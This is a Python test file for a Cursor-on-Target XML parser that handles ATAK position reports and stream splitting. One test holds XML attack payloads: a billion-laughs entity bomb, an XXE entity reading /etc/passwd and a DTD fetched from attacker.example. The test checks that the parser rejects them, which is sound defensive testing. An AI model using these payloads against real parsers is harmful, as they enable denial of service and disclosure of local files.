"""Cursor-on-Target XML wire format (feeds.cot)."""
from __future__ import annotations

from datetime import datetime, timezone
from xml.sax.saxutils import quoteattr

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.fixes import Fix, ReportError
from feeds.cot import CotSplit, parse_cot, split_cot_stream

UTC = timezone.utc

ATAK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<event version="2.0" uid="ANDROID-359881234567890" type="a-f-G-U-C" how="m-g"
       time="2024-05-01T08:00:00.123Z" start="2024-05-01T08:00:00.123Z"
       stale="2024-05-01T08:01:15.123Z">
  <point lat="30.274085" lon="120.15507" hae="12.5" ce="4.9" le="9999999.0"/>
  <detail>
    <takv os="33" version="4.10.0" device="SM-G991B" platform="ATAK-CIV"/>
    <contact endpoint="*:-1:stcp" callsign="巡逻一组"/>
    <__group name="Cyan" role="Team Member"/>
    <status battery="88"/>
    <track course="87.5" speed="1.4"/>
  </detail>
</event>
""".encode()


def event(uid="u-1", lat="30.0", lon="120.0", point_extra="", attrs="", detail=""):
    return (f'<event version="2.0" uid="{uid}" type="a-f-G" how="h-e" time="2024-05-01T08:00:00Z" '
            f'stale="2024-05-01T08:05:00Z"{attrs}><point lat="{lat}" lon="{lon}" {point_extra}/>'
            f'<detail>{detail}</detail></event>').encode()


# ---------------------------------------------------------------- parse_cot

def test_atak_position_report():
    fix = parse_cot(ATAK)
    assert fix == Fix(
        device_id="ANDROID-359881234567890", lat=30.274085, lon=120.15507,
        fix_time=datetime(2024, 5, 1, 8, 0, 0, 123000, tzinfo=UTC),
        accuracy_m=4.9, speed_mps=1.4, heading_deg=87.5, altitude_m=12.5,
        battery_pct=88.0, stale_at=datetime(2024, 5, 1, 8, 1, 15, 123000, tzinfo=UTC),
        protocol="cot",
        attributes={"type": "a-f-G-U-C", "how": "m-g", "callsign": "巡逻一组",
                    "group": "Cyan", "role": "Team Member"},
    )


def test_unknown_sentinels_are_none():
    fix = parse_cot(event(point_extra='hae="9999999.0" ce="9999999.0" le="9999999"'))
    assert (fix.accuracy_m, fix.altitude_m) == (None, None)
    assert "le" not in fix.attributes
    assert parse_cot(event(point_extra='ce="1e8"')).accuracy_m is None
    fix = parse_cot(event(point_extra='hae="-12.5" ce="9999998" le="3"'))
    assert (fix.altitude_m, fix.accuracy_m, fix.attributes["le"]) == (-12.5, 9999998.0, 3.0)


def test_minimal_event_and_self_closing_detail():
    fix = parse_cot(b'<event uid="x" time="2024-05-01T16:00:00+08:00"><point lat="-1" lon="-2"/></event>')
    assert (fix.device_id, fix.lat, fix.lon) == ("x", -1.0, -2.0)
    assert fix.fix_time == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    assert (fix.accuracy_m, fix.altitude_m, fix.speed_mps, fix.heading_deg,
            fix.battery_pct, fix.stale_at) == (None,) * 6
    assert fix.attributes == {}


def test_time_fallbacks_and_forms():
    assert parse_cot(b'<event uid="x"><point lat="1" lon="2"/></event>').fix_time is None
    fix = parse_cot(b'<event uid="x" start="2024-05-01T08:00:00Z"><point lat="1" lon="2"/></event>')
    assert fix.fix_time == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    # WinTAK (.NET) writes seven fractional digits.
    fix = parse_cot(b'<event uid="x" time="2024-05-01T08:00:00.1234567Z"><point lat="1" lon="2"/></event>')
    assert fix.fix_time == datetime(2024, 5, 1, 8, 0, 0, 123456, tzinfo=UTC)


def test_track_nan_is_unknown_and_course_normalised():
    fix = parse_cot(event(detail='<track course="NaN" speed="NaN"/>'))
    assert (fix.heading_deg, fix.speed_mps) == (None, None)
    assert parse_cot(event(detail='<track course="360" speed="0"/>')).heading_deg == 0.0


def test_bom_and_declared_other_encoding_read_as_utf8():
    fix = parse_cot(b"\xef\xbb\xbf" + event(uid="bom"))
    assert fix.device_id == "bom"
    # UTF-8 bytes under a Latin-1 declaration: read as UTF-8 ("巡"), not as Latin-1 ("å·¡").
    declared = b'<?xml version="1.0" encoding="ISO-8859-1"?>'
    assert "巡".encode() == b"\xe5\xb7\xa1"
    assert parse_cot(declared + event(uid="巡")).device_id == "巡"
    # Bytes that really are Latin-1 (not UTF-8) are refused, not guessed.
    with pytest.raises(ReportError, match="not valid UTF-8"):
        parse_cot(declared + event(uid="é").replace("é".encode(), "é".encode("latin-1")))


@pytest.mark.parametrize("data, message", [
    (event(uid=""), "missing uid"),
    (b'<event><point lat="1" lon="2"/></event>', "missing uid"),
    (b'<event uid="x"><detail/></event>', "missing point"),
    (event(lat=""), "missing lat"),
    (b'<event uid="x"><point lon="2"/></event>', "missing lat"),
    (event(lon="east"), "invalid lon: 'east'"),
    (event(lat="NaN"), "invalid lat: 'NaN'"),
    (event(lat="90.5"), "lat out of range: 90.5"),
    (event(lon="-180.01"), "lon out of range: -180.01"),
    (event(point_extra='ce="wide"'), "invalid ce: 'wide'"),
    (event(detail='<track course="N" speed="1"/>'), "invalid course: 'N'"),
    (event(attrs=' time="tomorrow"').replace(b' time="2024-05-01T08:00:00Z"', b"", 1),
     "unparseable time: 'tomorrow'"),
    (event().replace(b"2024-05-01T08:05:00Z", b"later"), "unparseable stale: 'later'"),
    (b'<message uid="x"><point lat="1" lon="2"/></message>', "not a CoT event: root element is 'message'"),
    (b"<event uid='x'><point lat='1' lon='2'/>", "malformed XML: "),
    (b"", "empty message"),
    (b"   \n", "empty message"),
    (b"\xff\xfe<\x00e\x00", "message is not valid UTF-8"),
    ("<event/>".encode("utf-16"), "message is not valid UTF-8"),
])
def test_rejections(data, message):
    with pytest.raises(ReportError) as caught:
        parse_cot(data)
    assert str(caught.value).startswith(message)
    assert "\n" not in str(caught.value)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<event uid="&lol9;"><point lat="1" lon="2"/></event>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<event uid="&xxe;"><point lat="1" lon="2"/></event>"""


@pytest.mark.parametrize("payload", [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    b'<!doctype event SYSTEM "http://attacker.example/evil.dtd"><event uid="x"><point lat="1" lon="2"/></event>',
    b'<event uid="x"><point lat="1" lon="2"/></event><!ENTITY y "z">',
    # UTF-16 would hide the declaration from a byte scan: refused as non-UTF-8.
    EXTERNAL_ENTITY.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
])
def test_entity_attacks_rejected(payload):
    with pytest.raises(ReportError) as caught:
        parse_cot(payload)
    assert ("DOCTYPE/ENTITY" in str(caught.value)) or ("UTF-8" in str(caught.value))


def test_entity_attack_declaration_message():
    with pytest.raises(ReportError, match="^DOCTYPE/ENTITY declarations are not allowed$"):
        parse_cot(BILLION_LAUGHS)


def test_oversize_rejected_before_parsing():
    padding = b"<remarks>" + b"x" * 70000 + b"</remarks>"
    big = event(detail=padding.decode())
    with pytest.raises(ReportError, match=r"^message too large: \d+ bytes \(max 65536\)$"):
        parse_cot(big)
    assert parse_cot(big, max_bytes=len(big)).device_id == "u-1"
    with pytest.raises(ReportError, match="too large"):
        parse_cot(event(), max_bytes=20)


# ---------------------------------------------------------------- split_cot_stream

def test_two_events_and_half_a_third():
    first, second, third = event(uid="a"), event(uid="b"), event(uid="c")
    half = third[: len(third) // 2]
    stream = b'<?xml version="1.0" encoding="UTF-8"?>\n' + first + b"\n" + second + b"\r\n" + half
    messages, remainder, dropped = split_cot_stream(stream)
    assert messages == [first, second]
    assert remainder == half
    assert dropped == 0
    messages, remainder, dropped = split_cot_stream(remainder + third[len(half):])
    assert messages == [third] and remainder == b"" and dropped == 0
    assert [parse_cot(m).device_id for m in [first, second, third]] == ["a", "b", "c"]


def test_self_closing_event_garbage_and_partial_prefix():
    stream = b"\x00junk <eventual> </event> <event uid='p' how=\"a>b\"/>noise<ev"
    result = split_cot_stream(stream)
    assert isinstance(result, CotSplit)
    assert result.messages == [b"<event uid='p' how=\"a>b\"/>"]
    assert result.remainder == b"<ev"
    assert result.dropped == 0


def test_truncated_event_dropped_when_next_begins():
    cut = event(uid="cut")[:40]
    whole = event(uid="ok")
    messages, remainder, dropped = split_cot_stream(cut + whole)
    assert messages == [whole]
    assert remainder == b""
    assert dropped == len(cut)


def test_unterminated_event_bounded():
    stream = b"<event uid='x'><detail>" + b"y" * 200
    messages, remainder, dropped = split_cot_stream(stream, max_bytes=100)
    assert messages == [] and remainder == b"" and dropped == len(stream)
    # Within the bound it is kept whole.
    assert split_cot_stream(stream, max_bytes=1000) == ([], stream, 0)
    # An unfinished start tag counts the same way.
    assert split_cot_stream(b"<event uid='" + b"z" * 500, max_bytes=100) == ([], b"", 512)


def test_oversize_complete_event_dropped():
    big = event(detail="<remarks>" + "x" * 300 + "</remarks>")
    small = event(uid="s")
    messages, remainder, dropped = split_cot_stream(big + small, max_bytes=len(small) + 10)
    assert messages == [small] and remainder == b"" and dropped == len(big)


event_uids = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=12)
separators = st.text(alphabet=" \r\n\t", max_size=3).map(str.encode) | st.just(b'<?xml version="1.0"?>')


@given(st.lists(st.tuples(event_uids, separators), min_size=1, max_size=6), st.data())
def test_property_stream_chunked_reassembly(items, data):
    events = [event(uid=uid) for uid, _ in items]
    stream = b"".join(sep + ev for (_, sep), ev in zip(items, events))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(stream)), max_size=8)))
    chunks = [stream[a:b] for a, b in zip([0, *cuts], [*cuts, len(stream)])]
    buffer, got, total_dropped = b"", [], 0
    for chunk in chunks:
        messages, buffer, dropped = split_cot_stream(buffer + chunk)
        got.extend(messages)
        total_dropped += dropped
    assert got == events
    assert buffer == b"" and total_dropped == 0
    assert [parse_cot(m).device_id for m in got] == [uid for uid, _ in items]


@given(st.binary(max_size=400) | st.lists(st.sampled_from(
    [b"<event", b" uid='a'", b">", b"/>", b"</event>", b"<point lat='1' lon='2'/>", b"'", b'"', b"<", b"x", b"\n"]),
    max_size=40).map(b"".join), st.integers(8, 300))
def test_property_split_arbitrary_bytes(stream, max_bytes):
    try:
        messages, remainder, dropped = split_cot_stream(stream, max_bytes=max_bytes)
    except ReportError:
        return
    assert len(remainder) <= max_bytes
    assert dropped >= 0
    for message in messages:
        assert message.startswith(b"<event") and message.endswith(b">")
        assert len(message) <= max_bytes
        assert message in stream
        try:
            parse_cot(message)
        except ReportError:
            pass


@given(st.binary(max_size=600))
def test_property_parse_cot_arbitrary_bytes(data):
    try:
        fix = parse_cot(data)
    except ReportError as exc:
        assert "\n" not in str(exc)
    else:
        assert isinstance(fix, Fix)


attribute_values = st.text(max_size=20) | st.sampled_from(
    ["9999999.0", "NaN", "-0", "1e5", "90", "180.0", "-91", "2024-05-01T08:00:00Z", "&", "<"])


@given(st.fixed_dictionaries({}, optional={
    key: attribute_values for key in ("uid", "type", "how", "time", "start", "stale")}),
    st.fixed_dictionaries({}, optional={key: attribute_values for key in ("lat", "lon", "hae", "ce", "le")}),
    st.fixed_dictionaries({}, optional={key: attribute_values for key in ("course", "speed")}),
    attribute_values)
def test_property_parse_cot_structured_garbage(event_attrs, point_attrs, track_attrs, callsign):
    def render(attrs):
        return " ".join(f"{key}={quoteattr(value)}" for key, value in attrs.items())
    xml = (f"<event {render(event_attrs)}><point {render(point_attrs)}/><detail>"
           f"<contact callsign={quoteattr(callsign)}/><track {render(track_attrs)}/></detail></event>")
    try:
        fix = parse_cot(xml.encode("utf-8", "surrogatepass"))
    except ReportError as exc:
        assert "\n" not in str(exc)
    else:
        assert abs(fix.lat) <= 90 and abs(fix.lon) <= 180 and fix.device_id
        assert fix.accuracy_m is None or fix.accuracy_m < 9999999
        assert fix.fix_time is None or fix.fix_time.utcoffset().total_seconds() == 0


@given(st.floats(min_value=9999999.0, allow_infinity=False, allow_nan=False))
def test_property_ce_unknown(ce):
    assert parse_cot(event(point_extra=f'ce="{ce!r}" hae="{ce!r}"')).accuracy_m is None


@pytest.mark.parametrize("point_extra, detail, named", [
    ("", '<status battery="1e308"/>', "battery"),
    ("", '<track speed="5e307" course="1"/>', "speed"),
    ('hae="1e6"', "", "hae"),
])
def test_numbers_out_of_range_are_refused_naming_the_field(point_extra, detail, named):
    with pytest.raises(ReportError, match=rf"^{named} out of range: "):
        parse_cot(event(point_extra=point_extra, detail=detail))


def test_an_unset_clock_is_refused():
    with pytest.raises(ReportError, match="before 2000"):
        parse_cot(event(attrs="").replace(b"2024-05-01T08:00:00Z", b"1970-01-01T00:00:00Z"))
